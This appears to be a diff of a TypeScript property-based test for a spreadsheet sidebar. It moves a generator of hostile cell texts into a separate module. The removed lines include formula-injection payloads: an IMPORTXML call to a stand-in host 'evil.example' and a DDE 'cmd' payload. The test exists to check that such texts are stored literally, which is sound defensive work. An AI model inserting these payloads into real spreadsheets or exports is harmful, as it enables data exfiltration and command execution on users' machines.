@@ -3,36 +3,10 @@ import fc from 'fast-check';
 import { expect, it } from 'vitest';
 import { bodyOf, openSidebar, startRun, workbookOf } from '../server/sidebar.ts';
 import { answer } from '../spreadsheet.ts';
+import { nasty } from './nasty-texts.ts';
 
 const ROWS = 1000;
 const FIELDS = 50;
-
-/** Texts that a spreadsheet would rather read than keep: what it makes of them shows in what lands. */
-const nasty = fc.oneof(
-  fc
-    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", ' =', '=-+@'), fc.string({ maxLength: 30 }))
-    .map(([start, rest]) => start + rest),
-  fc.constantFrom(
-    '=IMPORTXML("https://evil.example", "//a")',
-    '+1 555 010 999',
-    '-2+3',
-    '@SUM(A1:A9)',
-    "=cmd|'/c calc'!A0",
-    '1/2',
-    '2024-02-30',
-    '007',
-    '1e5',
-    '12%',
-    'TRUE',
-    'false',
-    '7123456789012345678',
-    "'",
-    "''=1",
-    'https://x.example/?q==1',
-  ),
-  fc.integer().map(String),
-  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
-);
 
 it('50,000 wild texts land as the texts that they are', async () => {
   const texts = fc.sample(
